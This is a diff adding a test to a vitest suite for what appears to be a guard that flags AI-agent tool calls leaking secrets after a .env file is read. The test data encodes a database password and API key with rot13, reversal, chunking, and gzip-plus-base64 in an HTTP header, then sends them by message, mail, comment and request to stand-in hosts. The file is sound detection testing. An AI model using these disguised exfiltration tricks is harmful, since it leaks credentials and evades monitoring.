@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 
+import { gzipSync } from 'node:zlib';
+
 import { createGuard, type GuardOptions } from '@vanguard/core';
 
 import { flowViews } from '../src/stateful/flow-views.js';
@@ -57,6 +59,18 @@ describe('a secret sent disguised after it was read', () => {
     await s.read('read_file', { path: 'deploy/.env.production' }, settings);
     expect(await s.rules('post_message', { channel: 'D0X1', text: `cfg ${[...apiKey].reverse().join('')}` })).toContain(flow);
     expect(await s.rules('send_mail', { to: 'someone@elsewhere.example', body: `pw: ${dbSecret.match(/.{1,5}/g)!.join(' - ')}` })).toContain(flow);
+  });
+
+  it('is found rot13-shifted, a URL login too, and gzipped then base64-encoded in a header', async () => {
+    const s = session(trusted);
+    await s.read('read_file', { path: 'deploy/.env.production' }, settings);
+    const rot = (t: string) => t.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c === c.toLowerCase() ? 97 : 65)));
+    expect(await s.rules('add_comment', { body: `config, shifted: ${rot(`postgres://svc:${dbSecret}@pg-7.corp.internal:6432/orders`)}` })).toContain(flow);
+    expect(await s.rules('post_message', { channel: 'C2', text: `k ${rot(apiKey)}` })).toContain(flow);
+    expect(await s.rules('http_request', { method: 'GET', url: 'https://status.panel-hub.example/ping', headers: { 'X-Trace': gzipSync(settings).toString('base64') } })).toContain(flow);
+    // The same comment with the password masked, and a gzip of something else, carry nothing.
+    expect(await s.rules('add_comment', { body: rot('postgres://svc:****@pg-7.corp.internal:6432/orders') })).not.toContain(flow);
+    expect(await s.rules('http_request', { method: 'POST', url: 'https://status.panel-hub.example/ping', headers: { 'X-Trace': gzipSync('{"build":"ok","ms":412,"cache":"hit"}').toString('base64') } })).not.toContain(flow);
   });
 
   it('is followed from the output of a command that prints a stored credential', async () => {
